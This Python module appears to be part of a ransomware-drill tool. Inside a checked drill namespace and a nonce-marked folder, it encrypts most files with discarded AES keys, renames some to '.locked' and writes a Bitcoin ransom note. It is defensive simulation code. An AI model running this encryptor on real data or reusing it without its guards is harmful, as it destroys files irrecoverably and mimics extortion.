"""Encrypt the files of a drill, and of nothing else: only below a folder that this drill has marked as its own.

Run as a program of its own inside the attacked host, which it makes sure of:
`python -m bollwerk.shell.drill.simulator FOLDER NONCE NAMESPACE`.
"""

from __future__ import annotations

import os
import re
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

__all__ = ["MARK", "RefusedError", "attack", "stand_inside"]

MARK = ".bollwerk-drill"
"""File that marks the folder of a drill; it holds the number of the run."""
_NOTE = """ALL YOUR FILES HAVE BEEN ENCRYPTED!

To decrypt them you need our private key. Do not rename the encrypted files. Pay 2 Bitcoin and write to us via the
Tor browser within 72 hours, or your data will be published. This is a drill of your own house: nothing is paid.
"""
_SPARED = 4
"""One file of so many stays as it is, as attackers that are interrupted leave some."""


_NAMESPACE = re.compile(r"bw[0-9a-f]{6}-[a-z]+")


class RefusedError(RuntimeError):
    """The folder does not belong to the drill."""


def stand_inside(namespace: str) -> None:
    """Make sure that this program runs in a namespace of a drill.

    Raises:
        RefusedError: If it runs on the machine itself, or in another namespace.
    """
    place = Path("/run/netns") / namespace
    if not _NAMESPACE.fullmatch(namespace) or not place.exists() or not place.samefile("/proc/self/ns/net"):
        raise RefusedError(f"This does not run inside the namespace {namespace!r} of a drill; nothing was touched.")


def attack(share: Path, nonce: str) -> int:
    """Encrypt most files below a share and leave notes; return how many were encrypted.

    Raises:
        RefusedError: If the share does not lie in a folder that this drill has marked, or holds a link.
    """
    root = share.resolve()
    mark = root.parent / MARK
    if mark.is_symlink() or not mark.is_file() or not nonce or mark.read_text(encoding="ascii") != nonce:
        raise RefusedError(f"{share} does not belong to this drill; nothing was touched.")
    if root.stat().st_dev != root.parent.stat().st_dev:
        raise RefusedError(f"{share} lies on another file system; nothing was touched.")
    files = sorted(path for path in root.rglob("*") if path.is_file())
    if any(path.is_symlink() for path in root.rglob("*")):
        raise RefusedError(f"{share} holds links; nothing was touched.")
    chosen = [path for number, path in enumerate(files) if number % _SPARED]
    for number, path in enumerate(chosen):
        _encrypt(path, renamed=number % 2 == 0)
    for folder in sorted({path.parent for path in chosen}):
        (folder / "README_DECRYPT.txt").write_text(_NOTE, encoding="ascii")
    return len(chosen)


def _encrypt(path: Path, *, renamed: bool) -> None:
    stream = Cipher(algorithms.AES(os.urandom(32)), modes.CTR(os.urandom(16))).encryptor()
    path.write_bytes(stream.update(path.read_bytes()))
    if renamed:
        path.rename(path.with_name(f"{path.name}.locked"))


if __name__ == "__main__":
    stand_inside(sys.argv[3] if len(sys.argv) > 3 else "")  # noqa: PLR2004 - folder, number of the run, namespace
    sys.stdout.write(f"{attack(Path(sys.argv[1]), sys.argv[2])}\n")
